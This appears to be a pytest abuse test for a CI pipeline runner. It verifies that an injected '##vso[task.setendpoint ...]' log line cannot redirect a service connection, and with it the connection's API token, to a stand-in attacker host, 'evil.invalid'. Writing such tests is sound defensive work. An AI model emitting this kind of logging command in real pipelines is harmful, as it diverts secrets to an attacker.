"""Case 3: a log line repoints a connection, so that the next task sends its token to the attacker."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from sluice.plugin import Connection, Secret, Task, TaskRun
from sluice.runtime.request import ConnectionInput, Result

if TYPE_CHECKING:
    from tests.abuse.conftest import Jobs

OWN = "11111111-2222-4333-8444-555555555555"
SYSTEM = "00000000-0000-0000-0000-000000000000"
NAMED = (ConnectionInput(name="depot", written="depot"),)


@pytest.mark.parametrize("restricted", [False, True])
@pytest.mark.parametrize("id_", [OWN, OWN.upper(), SYSTEM, "SystemVssConnection", "depot"])
@pytest.mark.parametrize(
    "field", ["field=url", "field=authParameter;key=apitoken", "field=dataParameter;key=url", "field=URL;key=x"]
)
def test_no_line_changes_a_connection(jobs: Jobs, id_: str, field: str, restricted: bool) -> None:
    seen: list[Connection] = []
    line = f"##vso[task.setendpoint id={id_};{field}]https://evil.invalid"

    def print_it(run: TaskRun) -> None:
        run.say(line)
        seen.append(run.connection("depot"))

    genuine = Connection(
        id=OWN,
        name="depot",
        type="acme",
        url="https://right.invalid",
        parameters={"apitoken": Secret("t0ken-of-the-depot")},
        data={"url": "https://right.invalid/api"},
    )
    jobs.connections.known = {"depot": genuine}
    jobs.tasks["Acme@1"] = Task("Acme@1", print_it, inputs=())
    task = jobs.step("Acme@1", "B", inputs={"depot": "depot"}, connection_inputs=NAMED)
    again = jobs.step("Acme@1", "C", inputs={"depot": "depot"}, connection_inputs=NAMED, condition="always()")
    script = jobs.script(f"echo '{line}'", restricted=restricted, continue_on_error=True)
    ran = jobs.run(script, task, again, jobs.script("env | grep -c evil; true", "D", condition="always()"))
    assert ran.results()["B"] == ran.results()["C"] == Result.SUCCEEDED
    assert seen == [genuine, genuine]
    assert ran.output("D") == ["0"]
    assert ran.issues("A")  # it is told, never silent
